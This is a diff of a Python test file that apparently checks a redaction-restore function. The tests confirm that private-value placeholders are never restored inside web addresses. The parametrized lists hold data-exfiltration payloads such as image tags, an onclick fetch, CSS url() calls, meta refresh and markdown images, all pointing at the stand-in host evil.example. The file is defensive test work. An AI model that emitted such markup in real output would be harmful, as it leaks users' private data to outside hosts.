@@ -111,8 +111,8 @@ HTML = [
     '<meta http-equiv="refresh" content="0;url=//evil.example/<EMAIL_1>">',
     '<iframe srcdoc="<img src=//evil.example/<EMAIL_1>>">',
     "<iframe srcdoc='&lt;img src=//evil.example/<EMAIL_1>&gt;'>",
-    '<b onclick="fetch(\'//evil.example/<EMAIL_1>\')">',
-    '<link rel=stylesheet href=//evil.example/<EMAIL_1>>',
+    "<b onclick=\"fetch('//evil.example/<EMAIL_1>')\">",
+    "<link rel=stylesheet href=//evil.example/<EMAIL_1>>",
     '<div style="background:url(//evil.example/<EMAIL_1>)">',
     "<style>a{b:url( //evil.example/<EMAIL_1> )}</style>",
     "<style>a{b:url(\n'//evil.example/)<EMAIL_1>')}</style>",
@@ -127,7 +127,9 @@ HTML = [
 ]
 
 
-@pytest.mark.parametrize("before", ["", "Ada says: ", "text\n\n", "王芳说：", "[a](https://a.example) and ", "<NAME_99> "])
+@pytest.mark.parametrize(
+    "before", ["", "Ada says: ", "text\n\n", "王芳说：", "[a](https://a.example) and ", "<NAME_99> "]
+)
 @pytest.mark.parametrize("attack", [*IMAGES_AND_LINKS, *BARE, *HTML])
 def test_no_value_enters_an_address(attack: str, before: str) -> None:
     if before.endswith(("：", ": ", "and ", "> ")) and "]:" in attack:
@@ -175,7 +177,7 @@ ORDINARY = [
     '{\\"url\\":\\"https://a.example\\",\\"email\\":\\"<EMAIL_1>\\"}',
     "fetch('https://a.example', '<EMAIL_1>')",
     "```js\nfetch(\"https://a.example\", {to: '<EMAIL_1>'})\n```",
-    "if a <b and c=\"<EMAIL_1>\"",
+    'if a <b and c="<EMAIL_1>"',
     "git config user.email <EMAIL_1>",
     "To: <EMAIL_1>\nFrom: <NAME_1> <<EMAIL_1>>",
     "list[0] (<EMAIL_1>)",
@@ -209,11 +211,17 @@ def test_a_token_in_an_address_stays_and_is_not_counted_as_unknown() -> None:
 
 @pytest.mark.parametrize(
     "call",
-    ['{"url": "https://evil.example/?q=<EMAIL_1>"}', '{"url":"https:\\/\\/evil.example\\/<EMAIL_1>"}',
-     '{"html":"<img src=\\"//evil.example/<EMAIL_1>\\">"}', '{"html":"<img src=\\u0022//evil.example/<EMAIL_1>\\u0022>"}',
-     '{"md":"![x](//evil.example/<EMAIL_1>)"}', '{"md":"a\\n[x]: //evil.example/<EMAIL_1>"}',
-     '{"a":{"b":["www.evil.example/<EMAIL_1>"]}}', '{"h":"\\u003cimg src=//evil.example/<EMAIL_1>"}']
-)  # fmt: skip
+    [
+        '{"url": "https://evil.example/?q=<EMAIL_1>"}',
+        '{"url":"https:\\/\\/evil.example\\/<EMAIL_1>"}',
+        '{"html":"<img src=\\"//evil.example/<EMAIL_1>\\">"}',
+        '{"html":"<img src=\\u0022//evil.example/<EMAIL_1>\\u0022>"}',
+        '{"md":"![x](//evil.example/<EMAIL_1>)"}',
+        '{"md":"a\\n[x]: //evil.example/<EMAIL_1>"}',
+        '{"a":{"b":["www.evil.example/<EMAIL_1>"]}}',
+        '{"h":"\\u003cimg src=//evil.example/<EMAIL_1>"}',
+    ],
+)
 def test_a_tool_call_with_a_value_in_an_address_is_withheld(call: str) -> None:
     with pytest.raises(UnrestorableArgumentsError) as caught:
         restore(call, LOOKUP, kind="tool_arguments")
@@ -222,10 +230,17 @@ def test_a_tool_call_with_a_value_in_an_address_is_withheld(call: str) -> None:
 
 @pytest.mark.parametrize(
     "call",
-    ['{"url": "https://a.example", "to": "<EMAIL_1>"}', '{"url":"https://a.example","to":"<EMAIL_1>"}',
-     '{"u":"https://a.example/\\"","to":"<EMAIL_1>"}', '{"u":"x\\\\","to":"<EMAIL_1>"}', '{"to":"mailto:<EMAIL_1>"}',
-     '{"md":"[x](https://a.example) <EMAIL_1>"}', '{"md":"see https://a.example\\n<EMAIL_1>"}', '["<EMAIL_1>"]']
-)  # fmt: skip
+    [
+        '{"url": "https://a.example", "to": "<EMAIL_1>"}',
+        '{"url":"https://a.example","to":"<EMAIL_1>"}',
+        '{"u":"https://a.example/\\"","to":"<EMAIL_1>"}',
+        '{"u":"x\\\\","to":"<EMAIL_1>"}',
+        '{"to":"mailto:<EMAIL_1>"}',
+        '{"md":"[x](https://a.example) <EMAIL_1>"}',
+        '{"md":"see https://a.example\\n<EMAIL_1>"}',
+        '["<EMAIL_1>"]',
+    ],
+)
 def test_other_values_of_a_tool_call_are_restored(call: str) -> None:
     assert "ada@example.org" in restore(call, LOOKUP, kind="tool_arguments").text
 
@@ -250,7 +265,7 @@ HOSTILE = {
     "unknown": "<NAME_2><",
     "escapes": "&lt;NAME_1",
     "half tokens": "<NAME_",
-    "many attributes": " a1=b c=\"d\" <x e='<NAME_1>",
+    "many attributes": ' a1=b c="d" <x e=\'<NAME_1>',
 }
 
 
